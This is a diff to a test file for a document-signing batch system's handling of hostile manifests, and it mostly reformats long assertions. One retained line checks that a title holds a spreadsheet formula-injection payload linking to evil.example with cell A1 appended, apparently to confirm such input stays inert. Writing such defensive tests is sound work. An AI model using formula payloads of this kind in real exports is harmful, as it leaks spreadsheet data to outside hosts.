@@ -64,7 +64,12 @@ describe('hostile manifests: each problem names its row and column; nothing else
 
   it('every committed manifest has its line in expected.json, and every line its file', () => {
     const committed = readdirSync(join(corpusFolder, 'manifests')).sort();
-    expect(corpus.manifests.filter((m) => !m.generate).map((m) => m.file).sort()).toEqual(committed);
+    expect(
+      corpus.manifests
+        .filter((m) => !m.generate)
+        .map((m) => m.file)
+        .sort(),
+    ).toEqual(committed);
   });
 
   for (const item of corpus.manifests) {
@@ -82,7 +87,9 @@ describe('hostile manifests: each problem names its row and column; nothing else
           expect(result.error).toMatchObject({ kind: 'InvalidInput', code: item.code, params: { file: item.file } });
           expect(result.error.message).toContain(`“${item.file}” ${via === 'content' ? item.contentMessage : item.message}`);
           // Refused as a whole: the batch is as the good manifest left it.
-          expect(batch.items.map((row) => [row.fileName, row.title, row.signers])).toEqual(before.items.map((row) => [row.fileName, row.title, row.signers]));
+          expect(batch.items.map((row) => [row.fileName, row.title, row.signers])).toEqual(
+            before.items.map((row) => [row.fileName, row.title, row.signers]),
+          );
           return;
         }
 
@@ -90,7 +97,9 @@ describe('hostile manifests: each problem names its row and column; nothing else
         // The first entry says what was applied (issue 16); the problems follow it.
         const report = batch.manifestProblems.filter((p) => p.code === 'manifest.applied');
         expect(report).toHaveLength(1);
-        const problems = batch.manifestProblems.filter((p) => p.code !== 'manifest.applied').map((p) => ({ code: p.code, row: p.row, field: p.field ?? null, message: p.message }));
+        const problems = batch.manifestProblems
+          .filter((p) => p.code !== 'manifest.applied')
+          .map((p) => ({ code: p.code, row: p.row, field: p.field ?? null, message: p.message }));
         if (item.problemCount !== undefined) {
           expect(problems).toHaveLength(item.problemCount);
           for (const expected of item.problems ?? []) {
@@ -104,7 +113,10 @@ describe('hostile manifests: each problem names its row and column; nothing else
         }
         for (const [file, title] of Object.entries(item.titles ?? {})) expect(byName.get(file)?.title, file).toBe(title);
         for (const [file, emails] of Object.entries(item.emails ?? {})) {
-          expect(byName.get(file)?.signers.map((s) => s.validations.EM), file).toEqual(emails);
+          expect(
+            byName.get(file)?.signers.map((s) => s.validations.EM),
+            file,
+          ).toEqual(emails);
         }
       });
     }
@@ -118,7 +130,9 @@ describe('hostile manifests: each problem names its row and column; nothing else
     await core.batches.whenSettled(batch.id);
     batch = await call<Batch>('batches.get', { batchId: batch.id });
     expect(batch.items.map((row) => [row.fileName, row.state])).toEqual([
-      ['contract-001.pdf', 'sent'], ['contract-002.pdf', 'sent'], ['contract-003.pdf', 'sent'],
+      ['contract-001.pdf', 'sent'],
+      ['contract-002.pdf', 'sent'],
+      ['contract-003.pdf', 'sent'],
     ]);
     const titles = batch.items.map((row) => row.title);
     expect(titles).toContain('=HYPERLINK("https://evil.example/?q="&A1,"Open me")');
